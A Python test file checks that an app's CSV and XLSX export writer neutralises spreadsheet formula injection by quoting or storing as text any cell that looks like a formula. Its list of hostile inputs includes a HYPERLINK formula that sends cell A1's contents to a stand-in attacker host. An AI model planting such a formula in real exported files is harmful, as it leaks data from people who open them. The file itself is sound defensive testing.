"""The writer every export uses: text that looks like a formula stays text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from app.spreadsheets import csv_text, csv_writer, workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/",
    "0012345",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_that_looks_like_a_formula_is_quoted(value: str) -> None:
    stream = io.StringIO()
    csv_writer(stream).writerow([value, 12, -3])
    (row,) = csv.reader(io.StringIO(stream.getvalue()))
    if value.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert row[0] == "'" + value
    else:
        assert row[0] == value
    assert row[1:] == ["12", "-3"]  # numbers stay numbers


def test_plain_text_is_untouched() -> None:
    assert csv_text("历下区不动产登记中心") == "历下区不动产登记中心"
    assert csv_text(None) is None


def test_an_xlsx_cell_that_looks_like_a_formula_is_a_text_cell(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    with workbook(path) as book:
        sheet = book.add_worksheet("=1+1")
        sheet.write(0, 0, HOSTILE[0])
        sheet.write_row(1, 0, HOSTILE)
        sheet.write(2, 0, "12")
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = archive.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    assert "hyperlink" not in xml.lower()
    assert "HYPERLINK" in strings  # kept as the text it is
    assert 't="s"' in xml
